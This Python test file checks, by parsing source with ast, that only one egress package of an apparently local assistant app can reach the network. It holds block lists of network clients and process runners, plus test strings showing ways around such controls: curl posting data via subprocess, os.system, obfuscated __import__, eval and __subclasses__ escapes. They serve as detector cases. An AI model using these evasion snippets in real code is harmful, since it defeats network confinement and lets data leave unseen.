"""No other module of the device can reach the network: every source file is read, and whatever could is named.

That goes for clients, and for ways around them: other programs, calls into C, names that don't stand there.
"""

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
DEVICE = ("agent", "cli", "federation", "fl_client", "skills", "tui", "vault")
DOOR = "vault/egress/"
UNIX_ONLY = "vault/holder/"
"""Our own processes speak over Unix sockets here, and over nothing else."""

CLIENTS = frozenset(
    """
    _socket _ssl aiohttp anyio asyncore asyncssh boto3 botocore ftplib grpc h11 h2 http.client http.server httpcore
    httpx httpx2 huggingface_hub imaplib logging.handlers multiprocessing.connection multiprocessing.managers
    nntplib paramiko poplib pycurl requests smtplib socket socketserver ssl telnetlib tornado trio twisted
    urllib.request urllib3 websocket websockets wsproto xmlrpc zmq
    """.split()  # noqa: SIM905  a paragraph is easier to read than fifty lines
)
"""Modules that are network clients, or that make sockets."""

MAKERS = frozenset(
    """
    create_connection create_datagram_endpoint create_server create_unix_connection create_unix_server getaddrinfo
    gethostbyname open_connection open_unix_connection sock_connect start_server start_tls start_unix_server
    wrap_bio wrap_socket
    """.split()  # noqa: SIM905
)
"""Whatever they belong to, these make a connection, a server, or a question to a name server."""

RUNNERS = frozenset(
    """
    _ctypes _posixsubprocess builtins cffi code codeop ctypes imp multiprocessing nt os.popen os.startfile os.system
    pkgutil posix pty runpy subprocess sys.modules webbrowser zipimport
    """.split()  # noqa: SIM905
)
"""Modules, and names in them, that run other programs or code that no reader of this file sees."""

SPAWNERS = ("execl", "execv", "popen", "posix_spawn", "spawn", "forkpty", "create_subprocess", "subprocess_")
"""How the names of functions begin that start programs, in `os` and in `asyncio`."""

HIDERS = frozenset(
    """
    __builtins__ __dict__ __getattribute__ __globals__ __import__ __loader__ __spec__ __subclasses__ attrgetter
    enable_load_extension entry_points exec_module load_extension load_module methodcaller module_from_spec
    spec_from_file_location spec_from_loader
    """.split()  # noqa: SIM905
)
"""Names by which other names can be had without writing them down, whatever they belong to."""

BUILT_IN = frozenset({"breakpoint", "compile", "eval", "exec", "globals", "locals", "vars"})
"""Likewise, where they belong to nothing: `re.compile` is another one."""

OUR_OWN = tuple(f"{package}." for package in DEVICE)

BY_NAME = ("import_module", "find_spec", "getattr")
"""Functions that are told a name, which has to stand there."""

WHOLE = frozenset({"asyncio", "importlib", "os", "sys"})
"""Modules that may not be handed on: of what is then taken from them nothing can be seen."""

LAZY = "its public names, loaded from modules of its own when they are first used"

ALLOWED = {
    "agent/__init__.py": {"getattr by a computed name": LAZY},
    "agent/models/__init__.py": {"getattr by a computed name": LAZY},
    "agent/models/embedded.py": {"find_spec by a computed name": "finds one package's folder, by a constant"},
    "agent/worker/__main__.py": {
        "import_module by a computed name": "two modules, by a constant, then it is confined"
    },
    "agent/worker/binding.py": {
        "ctypes": "calls llama.cpp",
        "module_from_spec": "loads the binding without its package's own beginning",
        "sys.modules": "likewise",
    },
    "agent/worker/engine.py": {"ctypes": "hands buffers to llama.cpp"},
    "agent/worker/sampling.py": {"ctypes": "hands numbers to llama.cpp"},
    "agent/worker/vocabulary.py": {"ctypes": "hands buffers to llama.cpp"},
    "agent/worker_process.py": {"subprocess": "starts the worker, which confines itself"},
    "cli/config.py": {"subprocess": "starts the person's editor"},
    "cli/main.py": {
        "getattr by a computed name": "looks at the three standard streams",
        "sys handed on": "likewise",
    },
    "skills/sandbox/seccomp.py": {"ctypes": "asks the kernel to confine this process"},
    "vault/__init__.py": {"getattr by a computed name": LAZY},
    "vault/egress/__init__.py": {
        "getattr by a computed name": LAZY,
        "import_module by a computed name": LAZY,
    },
    "vault/holder/__init__.py": {"getattr by a computed name": LAZY},
    "vault/holder/launch.py": {"subprocess": "starts the process that holds the key"},
    "vault/keychain.py": {
        "getattr by a computed name": "one of the accepted keychains, by a constant",
        "import_module by a computed name": "likewise",
    },
    "vault/log/__init__.py": {"getattr by a computed name": LAZY},
    "vault/memory.py": {"ctypes": "asks the kernel to keep memory out of swap files and core dumps"},
    "vault/portability/tables.py": {"getattr by a computed name": "a column by its name"},
    "vault/settings.py": {"getattr by a computed name": "a setting by its name"},
}
"""Who may do what nobody else may, and why. An entry that isn't needed any more is an error."""

EXCEPTIONS = {
    "skills/sandbox/seccomp.py": {"socket"},  # proves that no socket can be made
    "vault/pinning.py": {"ssl"},  # checks certificates; connects to nothing
    "vault/tls.py": {"ssl"},  # makes the settings that the door uses
}


def modules(tree: ast.AST) -> Iterator[str]:
    """What a file imports, by name or by a name in a string."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            yield node.module
            yield from (f"{node.module}.{alias.name}" for alias in node.names)
        elif isinstance(node, ast.Call) and _called(node) in ("import_module", "__import__", "find_spec"):
            yield from (a.value for a in node.args if isinstance(a, ast.Constant) and isinstance(a.value, str))


def clients(tree: ast.AST) -> set[str]:
    """The network modules that a file imports, and the makers of connections that it names."""
    found = {
        client for name in modules(tree) for client in CLIENTS if name == client or name.startswith(f"{client}.")
    }
    found |= {name.rpartition(".")[2] for name in modules(tree)} & MAKERS
    return found | {name for name, _ in _uses(tree)} & MAKERS


def ways_out(tree: ast.AST) -> set[str]:
    """What a file does that could reach the network without importing a client: other programs, hidden names."""
    imported = set(modules(tree))
    found = {name for name in RUNNERS if any(one == name or one.startswith(f"{name}.") for one in imported)}
    found |= {name.rpartition(".")[2] for name in imported if _starts_a_program(name.rpartition(".")[2])}
    found |= {name.rpartition(".")[2] for name in imported} & HIDERS
    found |= {f"{name.rpartition('.')[2]} by another name" for name in _renamed(tree)}
    known = _aliases(tree)
    for name, owner in _uses(tree):
        module = known.get(owner, owner)
        if f"{module}.{name}" in RUNNERS:
            found.add(f"{module}.{name}")
        elif name in HIDERS or _starts_a_program(name) or (not owner and name in BUILT_IN):
            found.add(name)
    return found | set(_hidden_names(tree, known))


def _uses(tree: ast.AST) -> Iterator[tuple[str, str]]:
    """Each name that a file uses, with the name before its dot; also those that `getattr` is told."""
    for node in ast.walk(tree):
        match node:
            case ast.Attribute(attr=name, value=ast.Name(id=owner)):
                yield name, owner
            case ast.Attribute(attr=name):
                yield name, "?"
            case ast.Name(id=name):
                yield name, ""
            case ast.Call(func=ast.Name(id="getattr"), args=[owner, ast.Constant(value=str(name)), *_]):
                yield name, owner.id if isinstance(owner, ast.Name) else "?"


def _hidden_names(tree: ast.AST, known: dict[str, str]) -> Iterator[str]:
    """Functions that are told a name which doesn't stand there, or are handed on; modules that are handed on."""
    called = {id(node.func): node for node in ast.walk(tree) if isinstance(node, ast.Call)}
    harmless = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Attribute)}
    harmless |= {id(node.args[0]) for node in called.values() if _called(node) == "hasattr"}
    for node in ast.walk(tree):
        match node:
            case ast.Attribute(attr=name) | ast.Name(id=name) if name in BY_NAME:
                call = called.get(id(node))
                if call is None:
                    yield f"{name} handed on"
                elif not _stands_there(call, 1 if name == "getattr" else 0):
                    yield f"{name} by a computed name"
        if isinstance(node, ast.Name) and known.get(node.id) in WHOLE and id(node) not in harmless:
            yield f"{known[node.id]} handed on"


def _stands_there(call: ast.Call, place: int) -> bool:
    """Whether the name that a function is told stands there, or begins like those of our own modules."""
    match call.args[place : place + 1]:
        case [ast.Constant(value=str())]:
            return True
        case [ast.JoinedStr(values=[ast.Constant(value=str(beginning)), *_])] if place == 0:
            return beginning.startswith(OUR_OWN)
    return False


def _aliases(tree: ast.AST) -> dict[str, str]:
    """The name by which a file knows a module that it imports, and the module."""
    return {
        alias.asname or alias.name.partition(".")[0]: alias.name if alias.asname else alias.name.partition(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    }


def _renamed(tree: ast.AST) -> set[str]:
    """Functions that are told a name, imported under another one."""
    return {
        alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
        for alias in node.names
        if alias.asname and alias.name in BY_NAME
    }


def _starts_a_program(name: str) -> bool:
    return name.startswith(SPAWNERS)


def other_than_unix(tree: ast.AST) -> set[str]:
    """What a file does with sockets that isn't a Unix socket."""
    found = {name for name in modules(tree) if name.startswith("socket.")}  # so that every use says `socket.`
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr.startswith(("AF_", "PF_")) and node.attr != "AF_UNIX":
            found.add(node.attr)
        elif isinstance(node, ast.Call) and _called(node) in ("socket", "fromfd", "SocketType"):
            family = node.args[1 if _called(node) == "fromfd" else 0 :][:1]
            if not (family and isinstance(family[0], ast.Attribute) and family[0].attr == "AF_UNIX"):
                found.add("a socket of another family")
    return found


def _called(call: ast.Call) -> str:
    match call.func:
        case ast.Attribute(attr=name) | ast.Name(id=name):
            return name
    return ""


def sources() -> Iterator[tuple[str, ast.AST]]:
    for folder in DEVICE:
        for path in (ROOT / folder).rglob("*.py"):
            yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text(encoding="utf-8"))


def test_no_other_module_of_the_device_can_reach_the_network() -> None:
    offenders = {
        name: found
        for name, tree in sources()
        if not name.startswith((DOOR, UNIX_ONLY)) and (found := clients(tree) - EXCEPTIONS.get(name, set()))
    }
    assert offenders == {}


def test_no_other_module_starts_programs_or_hides_what_it_imports() -> None:
    found = {name: ways for name, tree in sources() if (ways := ways_out(tree))}
    assert found == {name: set(ways) for name, ways in ALLOWED.items()}


def test_the_client_itself_is_made_in_one_file() -> None:
    assert [name for name, tree in sources() if "httpx" in clients(tree)] == [
        f"{DOOR}{name}.py" for name in ("client", "crossing", "door")
    ]
    makers = {name for name, tree in sources() for node in ast.walk(tree) if _makes_a_client(node)}
    assert makers == {f"{DOOR}client.py"}


def _makes_a_client(node: ast.AST) -> bool:
    return isinstance(node, ast.Call) and _called(node) in ("AsyncClient", "Client", "AsyncHTTPTransport")


def test_our_own_processes_speak_over_unix_sockets_alone() -> None:
    assert {
        name: found
        for name, tree in sources()
        if name.startswith(UNIX_ONLY)
        and (found := other_than_unix(tree) | (clients(tree) - {"socket"} - {n for n in MAKERS if "unix" in n}))
    } == {}


def test_what_proves_that_no_socket_can_be_made_connects_none() -> None:
    (tree,) = (tree for name, tree in sources() if name == "skills/sandbox/seccomp.py")
    uses = {
        node.attr
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "socket"
    }
    assert uses == {"AF_INET", "SOCK_DGRAM", "socket"}
    assert not any(
        isinstance(node, ast.Attribute) and node.attr in ("connect", "send", "sendto") for node in ast.walk(tree)
    )


@pytest.mark.parametrize(
    "code",
    [
        "import httpx",
        "import http.client as innocent",
        "from urllib import request",
        "from urllib.request import urlopen",
        "if True:\n    def f():\n        import socket",
        "import importlib\nimportlib.import_module('requests')",
        "__import__('ssl')",
        "import asyncio\nasyncio.open_connection('example.org', 80)",
        "from asyncio import open_connection",
        "loop.create_connection(f, 'example.org', 80)",
        "import multiprocessing.connection",
        "from websockets.sync.client import connect",
    ],
)
def test_the_reader_finds_a_client_however_it_is_written(code: str) -> None:
    assert clients(ast.parse(code))


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['curl', '-d', '@-', 'https://example.org'])",
        "from subprocess import run as innocent",
        "import os\nos.system('curl https://example.org')",
        "import os as o\no.system('curl https://example.org')",
        "from os import system",
        "import os\no = os\no.system('curl https://example.org')",
        "import os\ngetattr(os, 'system')('curl https://example.org')",
        "import os\ngetattr(os, 'sys' + 'tem')('curl https://example.org')",
        "import os\nos.popen('curl https://example.org')",
        "import os\nos.execvp('curl', ['curl'])",
        "import os\nos.spawnlp(os.P_WAIT, 'curl', 'curl')",
        "import os\nos.posix_spawnp('curl', ['curl'], {})",
        "from os import posix_spawn as innocent",
        "import posix",
        "import pty\npty.spawn('curl')",
        "import asyncio\nasyncio.create_subprocess_shell('curl https://example.org')",
        "loop.subprocess_exec(f, 'curl')",
        "import multiprocessing",
        "import ctypes\nctypes.CDLL(None).connect(3, 0, 0)",
        "from ctypes import CDLL as innocent",
        "import sys\nsys.modules['socket'].socket()",
        "import sys as s\ns.modules['socket'].socket()",
        "from sys import modules",
        "import sys\ngetattr(sys, 'modules')",
        "import importlib\nimportlib.import_module('soc' + 'ket')",
        "import importlib\nimportlib.import_module(name='socket')",
        "import importlib\nimportlib.import_module(f'{name}')",
        "import importlib as i\nf = i.import_module\nf('soc' + 'ket')",
        "from importlib import import_module as f\nf('socket')",
        "from importlib import import_module\nimport_module(name)",
        "import importlib.util\nimportlib.util.find_spec(name)",
        "__import__('soc' + 'ket')",
        "f = __import__",
        "import builtins\nbuiltins.__import__('socket')",
        "__builtins__['__import__']('socket')",
        "eval('__import__(chr(115))')",
        "exec('import socket')",
        "f = exec",
        "exec(compile('import socket', '', 'exec'))",
        "globals()['f']",
        "vars(asyncio)['open_connection']",
        "asyncio.__dict__['open_connection']",
        "from operator import attrgetter",
        "import runpy\nrunpy.run_path('x')",
        "().__class__.__base__.__subclasses__()",
    ],
)
def test_the_reader_finds_a_way_around_the_door(code: str) -> None:
    assert ways_out(ast.parse(code))


@pytest.mark.parametrize(
    "code", ["getattr(loop, 'create_connection')(f)", "from asyncio import open_connection as f"]
)
def test_the_reader_finds_a_maker_under_another_name(code: str) -> None:
    assert clients(ast.parse(code))


@pytest.mark.parametrize(
    "code",
    [
        "import re\nre.compile('x')",
        "import os\nos.replace('a', 'b')",
        "connection.execute('SELECT 1')",
        "settings.assistant.system",
        "import importlib\nimportlib.import_module(f'vault.log.{module}')",
        "import importlib.metadata\nimportlib.metadata.version('x')",
        "getattr(error, 'code', None)",
    ],
)
def test_the_reader_lets_what_leads_nowhere_pass(code: str) -> None:
    assert not ways_out(ast.parse(code))


@pytest.mark.parametrize(
    "code",
    [
        "import socket\nsocket.socket()",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)",
        "import socket\nsocket.socket(socket.AF_VSOCK)",
        "import socket\nsocket.socket(family)",
        "from socket import socket, AF_UNIX\nsocket(AF_UNIX)",
        "import socket\nsocket.fromfd(3, socket.AF_INET, socket.SOCK_STREAM)",
    ],
)
def test_the_reader_finds_a_socket_that_is_not_a_unix_one(code: str) -> None:
    assert other_than_unix(ast.parse(code))


def test_the_reader_lets_unix_sockets_pass() -> None:
    code = "import socket\nsocket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\nsocket.socketpair()"
    assert not other_than_unix(ast.parse(code))
